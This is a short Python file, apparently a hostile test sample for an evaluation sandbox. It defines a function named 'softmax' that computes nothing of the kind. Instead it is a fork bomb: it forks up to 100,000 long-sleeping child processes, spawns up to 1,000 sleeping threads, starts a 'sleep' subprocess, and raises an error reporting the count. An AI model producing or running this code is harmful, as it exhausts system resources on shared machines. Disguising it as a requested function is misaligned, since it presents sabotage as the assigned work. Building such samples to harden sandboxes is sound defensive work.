# Fork bomb: fork until the system refuses, every child sleeping forever (so the flood outlives the
# call), also through subprocess and threads; report how many were made.
# %% softmax
import os
import subprocess
import threading
import time

import torch

children = []


def softmax(X):
    made = 0
    for _ in range(100_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(10**6)
            os._exit(0)
        made += 1
    threads = 0
    for _ in range(1000):
        try:
            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
            threads += 1
        except RuntimeError:
            break
    try:
        children.append(subprocess.Popen(["sleep", "1000000"]))
    except OSError:
        pass
    raise RuntimeError(f"FORKED {made} processes and {threads} threads")
